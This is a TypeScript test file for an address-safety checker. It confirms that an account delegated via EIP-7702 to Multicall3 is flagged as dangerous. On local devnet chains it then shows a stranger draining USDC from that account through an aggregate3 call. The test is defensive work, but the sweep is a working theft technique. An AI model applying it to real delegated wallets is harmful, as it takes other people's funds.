import {
  devnetAccounts,
  devnetClient,
  mintStablecoin,
  startWorld,
  type World,
  worldRpcUrls,
} from "@presend/devnet";
import { chains, multicall3Address } from "@presend/shared/chains/chains";
import { encodeFunctionData, erc20Abi, multicall3Abi, parseEther } from "viem";
import { generatePrivateKey, privateKeyToAccount } from "viem/accounts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createChainReader } from "../chain/createChainReader";
import { createEngine, type Engine } from "./createEngine";

// An EOA that delegated (EIP-7702) to Multicall3, as real accounts have (BundleBear lists
// Multicall3 among the delegates in use). Multicall3 makes any call anyone asks of it, and as an
// account's code it makes them as the account: anyone can move out what the account holds or
// receives. Its missing receive function made presend say only "do not send ETH", as if a token
// sent there were safe.
//
// Its own world: the delegation, the USDC and the stranger's sweep are real transactions by keys
// made here, and the shared world belongs to files that only read it.

describe("an EOA delegated to Multicall3 (real anvil chains, the real Multicall3)", () => {
  let world: World;
  let engine: Engine;
  const owner = privateKeyToAccount(generatePrivateKey());
  const stranger = privateKeyToAccount(generatePrivateKey());

  beforeAll(async () => {
    world = await startWorld({ seedDemo: false });
    const rpcUrls = worldRpcUrls(world);
    engine = createEngine({ reader: createChainReader({ rpcUrls }) });
    const client = devnetClient("base", world.chains.base.rpcUrl);
    const faucet = privateKeyToAccount(devnetAccounts.faucet.privateKey);
    for (const account of [owner, stranger]) {
      await client.confirm(
        client.sendTransaction({ account: faucet, to: account.address, value: parseEther("1") }),
      );
    }
    const authorization = await client.signAuthorization({
      account: owner,
      contractAddress: multicall3Address,
      executor: "self",
    });
    await client.confirm(
      client.sendTransaction({
        account: owner,
        to: faucet.address,
        gas: 100_000n,
        authorizationList: [authorization],
      }),
    );
  });

  afterAll(async () => {
    await world?.stop();
  });

  it("is danger on check and deep: anyone can take what is sent there", async () => {
    const input = { address: owner.address, chain: "base" as const };
    const check = await engine.check(input);
    const deep = await engine.deep(input);
    if (check.type !== "report" || deep.type !== "report") throw new Error("chain unreadable");
    expect([check.report.verdict.level, deep.report.verdict.level]).toEqual(["danger", "danger"]);
    const [deciding] = check.report.verdict.reasons;
    expect(deciding?.code).toBe("eip7702_open_delegate");
    expect(check.report.verdict.headline).toBe("Anyone can take what is sent here on Base");
    expect(check.report.chain.delegate).toBe(multicall3Address);
  });

  it("is real: USDC sent to the account is taken by a stranger through its Multicall3 code", async () => {
    const client = devnetClient("base", world.chains.base.rpcUrl);
    const usdc = chains.base.usdc.address;
    const faucet = privateKeyToAccount(devnetAccounts.faucet.privateKey);
    await mintStablecoin(client, {
      token: usdc,
      minter: faucet,
      to: owner.address,
      amount: 5_000_000n,
    });
    const sweep = encodeFunctionData({
      abi: erc20Abi,
      functionName: "transfer",
      args: [stranger.address, 5_000_000n],
    });
    // The stranger calls the account itself: its code is Multicall3, which calls as the account.
    await client.confirm(
      client.sendTransaction({
        account: stranger,
        to: owner.address,
        data: encodeFunctionData({
          abi: multicall3Abi,
          functionName: "aggregate3",
          args: [[{ target: usdc, allowFailure: false, callData: sweep }]],
        }),
      }),
    );
    const balance = (address: `0x${string}`) =>
      client.readContract({
        address: usdc,
        abi: erc20Abi,
        functionName: "balanceOf",
        args: [address],
      });
    expect([await balance(owner.address), await balance(stranger.address)]).toEqual([
      0n,
      5_000_000n,
    ]);
  });
});
